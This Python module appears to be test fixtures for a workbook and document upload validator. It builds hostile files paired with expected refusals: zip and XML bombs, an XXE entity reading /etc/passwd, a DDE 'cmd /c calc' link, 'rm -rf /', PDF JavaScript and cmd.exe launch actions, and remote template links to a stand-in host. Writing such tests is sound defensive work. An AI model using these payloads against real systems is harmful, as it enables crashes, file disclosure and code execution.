"""Workbooks made to hurt: each a small file that a careless reader turns into gigabytes, hours or a crash."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable

NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORKBOOK = f'<workbook {NS} xmlns:r="{REL}"><sheets><sheet name="Data" sheetId="1" r:id="rId1"/></sheets></workbook>'
RELS = (
    f'<Relationships xmlns="x"><Relationship Id="rId1" Type="{REL}/worksheet" Target="worksheets/sheet1.xml"/>'
    f'<Relationship Id="rId2" Type="{REL}/sharedStrings" Target="sharedStrings.xml"/>'
    f'<Relationship Id="rId3" Type="{REL}/styles" Target="styles.xml"/></Relationships>'
)
SHEET = f"<worksheet {NS}><sheetData>%s</sheetData></worksheet>"
JUTA = 1_000_000


def _padded(text: str | bytes) -> str | bytes:
    """With enough noise before it to look no better packed than an honest workbook."""
    if isinstance(text, bytes) or len(text) < JUTA or text.startswith("<!DOCTYPE"):
        return text
    return f"<!--{random.Random(1).randbytes(len(text) // 250).hex()}-->{text}"


def pack(parts: dict[str, str | bytes], method: int = zipfile.ZIP_DEFLATED, level: int = 1) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method, compresslevel=level) as bundle:
        for name, text in parts.items():
            bundle.writestr(name, _padded(text))
    return buffer.getvalue()


def workbook(sheet: str = "", **more: str) -> bytes:
    """A minimal .xlsx with that sheetData; more parts by name (sharedStrings, styles, workbook)."""
    parts: dict[str, str | bytes] = {"xl/workbook.xml": WORKBOOK, "xl/_rels/workbook.xml.rels": RELS}
    parts["xl/worksheets/sheet1.xml"] = sheet if sheet.startswith(("<worksheet", "<!DOCTYPE")) else SHEET % sheet
    return pack(parts | {f"xl/{name}.xml": text for name, text in more.items()})


def noted(comments: str) -> bytes:
    """A workbook whose one sheet has these notes."""
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/comments"
    rels = f'<Relationships><Relationship Id="r1" Type="{kind}" Target="../comments1.xml"/></Relationships>'
    return pack({
        "xl/workbook.xml": WORKBOOK, "xl/_rels/workbook.xml.rels": RELS, "xl/worksheets/sheet1.xml": SHEET % "",
        "xl/worksheets/_rels/sheet1.xml.rels": rels,
        "xl/comments1.xml": f"<comments><commentList>{comments}</commentList></comments>",
    })  # fmt: skip


def lying_sizes() -> bytes:
    """The directory says ten bytes, the part holds fifty million."""
    content = bytearray(workbook("<row>" + "<c/>" * (5 * JUTA) + "</row>"))
    where = 0
    while (where := content.find(b"PK\x01\x02", where)) >= 0:
        content[where + 24 : where + 28] = struct.pack("<I", 10)
        where += 4
    return bytes(content)


def crowded_directory() -> bytes:
    entry = b"PK\x01\x02" + b"\x00" * 24 + struct.pack("<H", 0) + b"\x00" * 16
    body = entry * (9 * JUTA // len(entry))
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 65535, 65535, len(body), 4, 0)
    return b"PK\x03\x04" + body + end


def same_name_twice() -> bytes:
    buffer = io.BytesIO(workbook())
    with zipfile.ZipFile(buffer, "a") as bundle:
        bundle.writestr("xl/worksheets/SHEET1.xml", SHEET % "")
    return buffer.getvalue()


def many_sheets_one_part() -> bytes:
    sheets = "".join(f'<sheet name="L{n}" sheetId="{n}" r:id="rId1"/>' for n in range(150))
    book = f'<workbook {NS} xmlns:r="{REL}"><sheets>{sheets}</sheets></workbook>'
    return workbook("<row>" + "<c/>" * (JUTA // 8) + "</row>", workbook=book)


ENTITIES = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "haha"}">' for n in range(10))
LAUGHS = f"<!DOCTYPE worksheet [{ENTITIES}]>" + (SHEET % '<row><c t="str"><v>&a9;</v></c></row>')
XXE = '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + (SHEET % '<row><c t="str"><v>&x;</v></c></row>')

# name -> how to make it, and a word of the refusal ("" when it is simply read).
JAHAT: dict[str, tuple[Callable[[], bytes], str]] = {
    "far_cell": (lambda: workbook('<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row>'), ""),
    "beyond_the_sheet": (lambda: workbook('<row r="9999999"><c r="A9999999"><v>1</v></c></row>'), "rusak"),
    "bomb_rows": (lambda: workbook('<row><c t="str"><v>x</v></c></row>' * (3 * JUTA)), "terlalu besar"),
    "empty_rows": (lambda: workbook("<row/>" * (3 * JUTA)), "terlalu besar"),
    "one_huge_row": (lambda: workbook("<row>" + "<c><v>1</v></c>" * (5 * JUTA) + "</row>"), "rusak"),
    "largest_allowed": (lambda: workbook("".join(f'<row><c t="str"><v>{n:075d}</v></c></row>' for n in range(100_000))), ""),
    "best_packed": (lambda: pack({"xl/workbook.xml": WORKBOOK, "xl/worksheets/sheet1.xml": b" " * (20 * JUTA)}, level=9), "terlalu besar"),
    "too_much_in_all": (lambda: pack({f"xl/{n}.xml": "x" * (6 * JUTA) for n in range(20)}), "terlalu besar"),
    "bomb_strings": (lambda: workbook(sharedStrings=f"<sst>{'<si><t>x</t></si>' * (5 * JUTA)}</sst>"), "terlalu besar"),
    "one_huge_string": (lambda: workbook(sharedStrings=f"<sst><si><t>{'x' * (20 * JUTA)}</t></si></sst>"), "terlalu besar"),
    "many_runs": (lambda: workbook(sharedStrings=f"<sst><si>{'<r><t>x</t></r>' * (400_000)}</si></sst>"), "terlalu besar"),
    "huge_inline": (lambda: workbook(f'<row><c t="str"><v>{"x" * (20 * JUTA)}</v></c></row>'), "terlalu besar"),
    "long_number": (lambda: workbook(f'<row><c><v>{"9" * 5000}</v></c></row>'), ""),
    "styles_bomb": (lambda: workbook(styles=f"<styleSheet><cellXfs>{'<xf/>' * (3 * JUTA)}</cellXfs></styleSheet>"), "terlalu besar"),
    "formats_bomb": (lambda: workbook(styles="<s>" + "".join(f'<numFmt numFmtId="{n}" formatCode="{n}{"x" * 90}"/>' for n in range(700_000)) + "</s>"), "terlalu besar"),
    "notes_bomb": (lambda: noted('<comment ref="A1"><text><t>x</t></text></comment>' * JUTA), "terlalu besar"),
    "endless_note": (lambda: noted(f'<comment ref="A1"><text>{"<t>x</t>" * (JUTA // 2)}</text></comment>'), ""),
    "crowd_of_notes": (lambda: noted("".join(f'<comment ref="A{n}"><text><t>{"x" * 900}</t></text></comment>' for n in range(1, 50_000))), "terlalu besar"),
    "merges_bomb": (lambda: workbook("<worksheet><sheetData/>" + '<mergeCell ref="A1:B2"/>' * (JUTA // 4) + "</worksheet>"), ""),
    "deep_nesting": (lambda: workbook("<a>" * JUTA), "terlalu besar"),
    "endless_attribute": (lambda: workbook(f'<c r="{"A" * (20 * JUTA)}"/>'), "terlalu besar"),
    "many_attributes": (lambda: workbook("<c " + " ".join(f'a{n}=""' for n in range(JUTA)) + "/>"), "terlalu besar"),
    "crowd_of_names": (lambda: workbook("".join(f"<n{n}/>" for n in range(JUTA))), "terlalu besar"),
    "endless_comment": (lambda: workbook(f"<!--{'x' * (20 * JUTA)}-->"), "terlalu besar"),
    "billion_laughs": (lambda: workbook(LAUGHS), "rusak"),
    "external_entity": (lambda: workbook(XXE), "rusak"),
    "many_sheets_one_part": (many_sheets_one_part, "terlalu besar"),
    "lying_sizes": (lying_sizes, "rusak"),
    "crowded_directory": (crowded_directory, "terlalu besar"),
    "same_name_twice": (same_name_twice, "rusak"),
    "packed_otherwise": (lambda: pack({"xl/workbook.xml": WORKBOOK, "xl/worksheets/sheet1.xml": "x" * JUTA}, zipfile.ZIP_BZIP2), "rusak"),
    "macro": (lambda: pack({"xl/workbook.xml": WORKBOOK, "xl/vbaProject.bin": b"x"}), "makro"),
    "ole": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"x" * 4096, "rusak"),
    "not_a_zip": (lambda: b"%PDF-1.7 bukan buku kerja", "bukan buku kerja"),
    "html_as_xls": (lambda: b"<html><table><tr><td>1</td></tr></table></html>", "bukan buku kerja"),
    "a_word_document": (lambda: pack({"word/document.xml": "<x/>", "[Content_Types].xml": "<x/>"}), "bukan buku kerja"),
    "truncated": (lambda: workbook("<row><c><v>1</v></c></row>" * 1000)[:-200], "rusak"),
    "cut_in_the_middle": (lambda: workbook("<row><c><v>1</v></c></row>" * 1000)[:300], "rusak"),
    "no_sheet": (lambda: pack({"xl/workbook.xml": f"<workbook {NS}/>", "xl/_rels/workbook.xml.rels": "<r/>"}), "rusak"),
    "string_that_is_not_there": (lambda: workbook('<row><c t="s"><v>7</v></c></row>'), "rusak"),
    "not_xml": (lambda: workbook("<row"), "rusak"),
    "empty": (lambda: b"", "kosong"),
    "too_large": (lambda: b"PK\x03\x04" + b"\x00" * (11 * 2**20), "10 MB"),
}  # fmt: skip


def pdf(words: str = "Bukti", catalog: str = "", more: str = "") -> bytes:
    """A PDF of one empty page that says `words` in a comment; more entries for its catalog, more objects."""
    parts = (f"<< /Type /Catalog /Pages 2 0 R {catalog} >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
             "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>")  # fmt: skip
    body = "".join(f"{n} 0 obj\n{part}\nendobj\n" for n, part in enumerate(parts, 1))
    return f"%PDF-1.4\n% {words}\n{body}{more}trailer\n<< /Root 1 0 R >>\n%%EOF\n".encode()


# ---------------------------------------------------------------- for every door

DOCX = {"word/document.xml": "<document/>"}
XLSX: dict[str, str | bytes] = {
    "xl/workbook.xml": WORKBOOK, "xl/_rels/workbook.xml.rels": RELS, "xl/worksheets/sheet1.xml": SHEET % "",
}  # fmt: skip
PNG = b"\x89PNG\r\n\x1a\n"
PROGRAM = b"MZ\x90\x00 This program cannot be run in DOS mode"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600


def types(jenis: str) -> dict[str, str]:
    return {"[Content_Types].xml": f'<Types><Override PartName="/xl/x.bin" ContentType="{jenis}"/></Types>'}


def linked(kind: str, target: str, part: str = "word/_rels/document.xml.rels") -> dict[str, str]:
    """A relationship to something outside of the file."""
    return {part: f'<Relationships><Relationship Id="r9" Type="{REL}/{kind}" Target="{target}" TargetMode="External"/>'
                  "</Relationships>"}  # fmt: skip


def packed_pdf(text: bytes, filters: str = "/FlateDecode") -> bytes:
    """Its objects lie in a compressed stream, where their names do not show."""
    body = zlib.compress(text)
    head = f"4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter {filters} /Length {len(body)} >>\nstream\n"
    return pdf().replace(b"trailer", head.encode() + body + b"\nendstream\nendobj\ntrailer")


def with_part(base: dict[str, str] | dict[str, str | bytes], name: str, content: str | bytes = "x") -> bytes:
    return pack({**base, name: content})


DDE = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'

# What no door lets in, by its name; no name or suffix helps it.
SELALU_DITOLAK: dict[str, Callable[[], bytes]] = {
    "empty": lambda: b"",
    "program": lambda: PROGRAM,
    "program before a pdf": lambda: PROGRAM + pdf(),
    "script": lambda: b"#!/bin/sh\nrm -rf /",
    "html": lambda: b"<html><script>alert(1)</script></html>",
    "svg": lambda: b'<svg onload="alert(1)"/>',
    "old office": lambda: OLE,
    "torn zip": lambda: b"PK\x03\x04 torn",
    "any other zip": lambda: pack({"a.txt": "x"}),
    "xlsx macro": lambda: with_part(XLSX, "xl/vbaProject.bin"),
    "xlsx macro, its data only": lambda: with_part(XLSX, "xl/vbaData.xml"),
    "xlsx macro sheet": lambda: with_part(XLSX, "xl/macrosheets/sheet1.xml"),
    "xlsx international macro sheet": lambda: with_part(XLSX, "xl/intlMacrosheets/sheet1.xml"),
    "xlsx macro under another name": lambda: pack({**XLSX, **types("application/vnd.ms-office.vbaProject")}),
    "xlsx that says macroEnabled": lambda: pack(
        {**XLSX, **types("application/vnd.ms-excel.sheet.macroEnabled.main+xml")}
    ),
    "xlsx program": lambda: with_part(XLSX, "xl/embeddings/setup.exe", PROGRAM),
    "xlsx ole package": lambda: with_part(XLSX, "xl/embeddings/oleObject1.bin", OLE),
    "xlsx embedding of no known kind": lambda: with_part(XLSX, "xl/embeddings/data.bin", "x"),
    "xlsx program as a picture": lambda: with_part(XLSX, "xl/media/image1.png", PROGRAM),
    "xlsx ole as a picture": lambda: with_part(XLSX, "xl/media/image1.png", OLE),
    "xlsx activex": lambda: with_part(XLSX, "xl/activeX/activeX1.xml", "<x/>"),
    "xlsx dde": lambda: with_part(XLSX, "xl/externalLinks/externalLink1.xml", DDE),
    "xlsx link to another computer": lambda: pack(
        {**XLSX, **linked("externalLinkPath", "https://jahat.example/a.xlsx", "xl/externalLinks/_rels/e.xml.rels")}
    ),
    "xlsx link to a share": lambda: pack(
        {**XLSX, **linked("externalLinkPath", "file:///\\\\10.0.0.9\\s\\a.xlsx", "xl/externalLinks/_rels/e.xml.rels")}
    ),
    "docx macro": lambda: with_part(DOCX, "word/vbaProject.bin"),
    "docx macro, its data only": lambda: with_part(DOCX, "word/vbaData.xml"),
    "docx program": lambda: with_part(DOCX, "word/embeddings/setup.EXE", PROGRAM),
    "docx ole package": lambda: with_part(DOCX, "word/embeddings/oleObject1.bin", OLE),
    "docx activex": lambda: with_part(DOCX, "word/activeX/activeX1.bin"),
    "docx workbook with a macro in it": lambda: with_part(
        DOCX, "word/embeddings/Sheet.xlsx", with_part(XLSX, "xl/vbaProject.bin")
    ),
    "docx template from elsewhere": lambda: pack({**DOCX, **linked("attachedTemplate", "http://jahat.example/t.dotm")}),
    "docx picture from elsewhere": lambda: pack({**DOCX, **linked("image", "\\\\10.0.0.9\\s\\a.png")}),
    "docx object from elsewhere": lambda: pack({**DOCX, **linked("oleObject", "C:\\a.xlsx")}),
    "bomb": lambda: pack({**XLSX, "xl/worksheets/sheet2.xml": b" " * (60 * JUTA)}, level=9),
    "many bombs": lambda: pack({**XLSX, **{f"xl/{n}.xml": "x" * (6 * JUTA) for n in range(20)}}),
    "crowded directory": crowded_directory,
    "same name twice": same_name_twice,
    "pdf without an end": lambda: pdf().replace(b"%%EOF", b""),
    "pdf script": lambda: pdf(catalog="/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
    "pdf script in disguise": lambda: pdf(catalog="/OpenAction << /S /J#61vaScr#69pt /JS (x) >>"),
    "pdf script within packed objects": lambda: packed_pdf(b"1 0 << /S /JavaScript /JS (app.alert(1)) >>"),
    "pdf packed so that nobody sees": lambda: packed_pdf(b"1 0 << /S /URI >>", "[/ASCIIHexDecode /FlateDecode]"),
    "pdf bomb": lambda: packed_pdf(b" " * (60 * JUTA)),
    "pdf launch": lambda: pdf(more="9 0 obj << /S /Launch /F (cmd.exe) >> endobj\n"),
    "pdf attachment": lambda: pdf(catalog="/Names << /EmbeddedFiles 9 0 R >>"),
    "pdf with a password": lambda: pdf().replace(b"/Root", b"/Encrypt 9 0 R /Root"),
    "picture without an end": lambda: PNG + b"\0" * 200,
    "endless": lambda: pdf() + b" " * (11 * 2**20),
}  # fmt: skip
